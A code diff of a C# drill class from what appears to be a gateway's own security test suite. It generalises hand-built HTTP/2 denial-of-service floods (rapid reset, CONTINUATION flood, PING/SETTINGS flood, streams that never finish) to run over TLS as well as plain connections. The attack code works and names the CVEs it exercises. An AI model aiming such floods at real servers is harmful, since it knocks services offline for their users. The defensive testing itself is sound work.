@@ -6,7 +6,10 @@ using MediaGateway.Attack.Senders;
 
 namespace MediaGateway.Attack.Drills;
 
-/// <summary>HTTP/2 as frames by hand (RFC 9113), at the listener of the control API, whose clients know that it speaks HTTP/2.</summary>
+/// <summary>
+/// HTTP/2 as frames by hand (RFC 9113): at the listener of the control API, whose clients know that it speaks HTTP/2, and over TLS, where
+/// clients choose it, at the public one.
+/// </summary>
 internal static class Http2Drills
 {
     private const string Threat = "Calls without the right to them";
@@ -20,35 +23,48 @@ internal static class Http2Drills
 
     private static readonly TimeSpan EndLimit = TimeSpan.FromSeconds(2);
 
-    public static IReadOnlyList<Drill> List =>
+    public static IReadOnlyList<Drill> List => Over("HTTP/2", "/mediagateway.v1.NodeService/GetNode", Confines.None, async attack =>
+    {
+        Socket socket = await AttackClient.ConnectAsync(OngoingAttack.NextAddress(), attack.Site.Server.ControlAddress);
+        return new NetworkStream(socket, ownsSocket: true);
+    });
+
+    /// <summary>The drills of HTTP/2 over connections of some kind.</summary>
+    /// <param name="protocol">Its name in the table.</param>
+    /// <param name="path">A path that is served there.</param>
+    /// <param name="confines">The gateway that is attacked.</param>
+    /// <param name="connect">Opens a connection.</param>
+    public static IReadOnlyList<Drill> Over(string protocol, string path, Confines confines, Func<OngoingAttack, Task<Stream>> connect) =>
     [
         // CVE-2023-44487: each stream is cancelled as soon as it is asked for.
-        new("HTTP/2 rapid reset", Threat, attack => FloodAsync(attack, (number, frames) =>
+        new(protocol + " rapid reset", Threat, attack => FloodAsync(attack, connect, (number, frames) =>
         {
-            Write(frames, Headers, EndHeaders, StreamOf(number), Call("/mediagateway.v1.NodeService/GetNode"));
+            Write(frames, Headers, EndHeaders, StreamOf(number), Call(path));
             Write(frames, Reset, 0, StreamOf(number), [0, 0, 0, 8]);
-        })),
+        })) { Confines = confines },
         // CVE-2024-27983 and others: headers that never end.
-        new("HTTP/2 CONTINUATION flood", Threat, attack => FloodAsync(attack, (number, frames) =>
+        new(protocol + " CONTINUATION flood", Threat, attack => FloodAsync(attack, connect, (number, frames) =>
         {
             if (number == 0)
-                Write(frames, Headers, 0, 1, Call("/mediagateway.v1.NodeService/GetNode"));
+                Write(frames, Headers, 0, 1, Call(path));
             Write(frames, Continuation, 0, 1, Literal("x-" + number, new string('a', 1000)));
-        })),
+        })) { Confines = confines },
         // CVE-2019-9512 and CVE-2019-9515: each of these is to be answered, and nobody reads the answers.
-        new("HTTP/2 PING and SETTINGS flood", Threat, attack => FloodAsync(attack, (number, frames) =>
+        new(protocol + " PING and SETTINGS flood", Threat, attack => FloodAsync(attack, connect, (number, frames) =>
         {
             Write(frames, Ping, 0, 0, new byte[8]);
             Write(frames, Settings, 0, 0, []);
-        }, mustEnd: false)),
-        new("HTTP/2 streams without number", Threat, attack => FloodAsync(attack, (number, frames) =>
-            Write(frames, Headers, EndHeaders, StreamOf(number), Call("/mediagateway.v1.EventService/Watch")), mustEnd: false)),
+        }, mustEnd: false)) { Confines = confines },
+        // Requests whose bodies never come.
+        new(protocol + " streams without number", Threat, attack => FloodAsync(attack, connect, (number, frames) =>
+            Write(frames, Headers, EndHeaders, StreamOf(number), Call(path)), mustEnd: false)) { Confines = confines },
     ];
 
     private static int StreamOf(int number) => (2 * number) + 1;
 
     /// <summary>Connections that write such frames, and begin anew when the gateway has ended them.</summary>
-    private static async Task FloodAsync(OngoingAttack attack, Action<int, List<byte>> write, bool mustEnd = true)
+    private static async Task FloodAsync(
+        OngoingAttack attack, Func<OngoingAttack, Task<Stream>> connect, Action<int, List<byte>> write, bool mustEnd = true)
     {
         const int Connections = 4;
         const int Batch = 20;
@@ -57,7 +73,7 @@ internal static class Http2Drills
         {
             while (attack.GoesOn(ended > 0 || !mustEnd))
             {
-                using Socket socket = await AttackClient.ConnectAsync(OngoingAttack.NextAddress(), attack.Site.Server.ControlAddress);
+                await using Stream stream = await connect(attack);
                 List<byte> frames = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8];
                 Write(frames, Settings, 0, 0, []);
                 int number = 0;
@@ -69,9 +85,9 @@ internal static class Http2Drills
                     using var limit = new CancellationTokenSource(EndLimit);
                     try
                     {
-                        await socket.SendAsync(frames.ToArray(), SocketFlags.None, limit.Token);
+                        await stream.WriteAsync(frames.ToArray(), limit.Token);
                     }
-                    catch (Exception end) when (end is SocketException or OperationCanceledException)
+                    catch (Exception end) when (end is IOException or OperationCanceledException)
                     {
                         isOpen = false;
                     }
